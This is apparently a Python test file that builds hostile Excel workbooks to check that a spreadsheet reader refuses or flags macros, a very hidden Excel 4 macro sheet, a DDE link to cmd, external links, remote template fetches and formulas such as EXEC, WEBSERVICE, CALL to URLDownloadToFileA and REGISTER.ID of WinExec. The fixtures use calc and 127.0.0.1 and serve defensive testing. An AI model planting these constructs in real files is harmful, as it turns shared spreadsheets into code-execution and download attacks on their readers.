"""What would run, fetch or call outside if Excel opened it. Nothing of it is run here; a macro may not go unannounced."""

from tests.hostile.cases import (
    BOOK,
    BOOK_RELATIONS,
    CLEAN,
    Case,
    Reads,
    Refused,
    changed,
    june,
    related,
    typed,
)
from tests.reading.packages import MAIN, OFFICE, packed

VBA, MACRO_SHEET = (
    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
)
LINES_RELATIONS = "xl/worksheets/_rels/sheet6.xml.rels"
SHEET = (
    f'<xm:macrosheet xmlns="{MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>'
)
EXCEL_4 = '<row r="1"><c r="A1"><f>EXEC("calc")</f><v>0</v></c></row>'


def both(*several):
    """The clean register with the changes of several of its copies, each of other parts."""
    return june() | {name: content for parts in several for name, content in parts.items() if content != june().get(name)}


def with_macros(part="vbaProject.bin"):
    return both(related(BOOK_RELATIONS, VBA, part), {f"xl/{part}": "\xcc\x61"})


def with_macro_sheet():
    listed = changed(BOOK, ("</sheets>", '<sheet name="Macro1" sheetId="90" state="veryHidden" r:id="rId90"/></sheets>'))
    return both(listed, related(BOOK_RELATIONS, MACRO_SHEET, "macrosheets/sheet1.xml"), {"xl/macrosheets/sheet1.xml": SHEET})


def linked(inner, relations=""):
    """A link to elsewhere, as a part of its own."""
    listed = changed(BOOK, ("</sheets>", '</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>'))
    link = f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{inner}</externalLink>'
    parts = {"xl/externalLinks/externalLink1.xml": link}
    if relations:
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations
    return both(listed, related(BOOK_RELATIONS, "externalLink", "externalLinks/externalLink1.xml"), parts)


def path_to(target):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'
    )


def warns(found):
    return Reads("pass", (("external-link", "", found),))


DDE = '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
BOOK_LINK = '<externalBook r:id="rId1"/>'
CONNECTION = f'<connections xmlns="{MAIN}"><connection id="1" name="Query" type="1"/></connections>'
MACROS = "holds macros, and its name says that it has none"
FORMULAS = {
    "dde": "cmd|'/C calc'!A0",
    "web": 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)',
    "exec": 'EXEC("calc")',
    "call": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1:9","x",0,0)',
    "register": 'REGISTER.ID("kernel32","WinExec")',
}

CASES = (
    Case("active-macros.xlsx", packed(with_macros()), Refused(MACROS)),
    Case("active-macros.XLTX", packed(with_macros()), Refused(MACROS)),
    Case("active-macros-renamed.xlsx", packed(with_macros("media/image9.png")), Refused(MACROS)),
    Case("active-macros-unrelated.xlsx", packed(june() | {"xl/vbaProject.bin": "\xcc\x61"}), Refused(MACROS)),
    Case("active-macro-sheet.xlsx", packed(with_macro_sheet()), Refused(MACROS)),
    Case("active-macros.xlsm", packed(with_macros()), CLEAN),
    Case("active-macro-sheet.xlsm", packed(with_macro_sheet()), CLEAN),
    Case("active-dde.xlsx", packed(linked(DDE)), warns("the program cmd (DDE)")),
    Case(
        "active-link.xlsx",
        packed(linked(BOOK_LINK, path_to("file:///C:/Finance/Budget%202017.xlsx"))),
        warns("Budget 2017.xlsx"),
    ),
    Case("active-link-to-a-share.xlsx", packed(linked(BOOK_LINK, path_to("file://127.0.0.1/x/Book.xlsx"))), warns("Book.xlsx")),
    Case("active-link-nowhere.xlsx", packed(linked("")), warns("another workbook")),
    Case(
        "active-connection.xlsx",
        packed(both(related(BOOK_RELATIONS, "connections", "connections.xml"), {"xl/connections.xml": CONNECTION})),
        CLEAN,
    ),
    Case(
        "active-embedded.xlsx",
        packed(
            both(related(LINES_RELATIONS, "oleObject", "../embeddings/oleObject1.bin"), {"xl/embeddings/oleObject1.bin": "MZ"})
        ),
        CLEAN,
    ),
    Case(
        "active-picture-fetched.xlsx", packed(related(LINES_RELATIONS, "image", "http://127.0.0.1:9/x.png", "External")), CLEAN
    ),
    Case(
        "active-template-fetched.xlsx",
        packed(related("_rels/.rels", "attachedTemplate", "http://127.0.0.1:9/x.xltm", "External")),
        CLEAN,
    ),
    Case(
        "active-book-fetched.xlsx",
        packed(changed("_rels/.rels", ('Target="xl/workbook.xml"', 'Target="http://127.0.0.1:9/x" TargetMode="External"'))),
        Refused("workbook part is missing"),
    ),
    Case(
        "active-start.xlsx",
        packed(
            changed(
                BOOK, ("<definedNames>", '<definedNames><definedName name="_xlnm.Auto_Open">Allocations!$A$1</definedName>')
            )
        ),
        CLEAN,
    ),
    *(
        Case(
            f"active-formula-{name}.xlsx",
            packed(typed("AC5", f'<c r="AC5" t="str"><f>{formula}</f><v>seen</v></c>')),
            Reads("pass"),
        )
        for name, formula in FORMULAS.items()
    ),
)
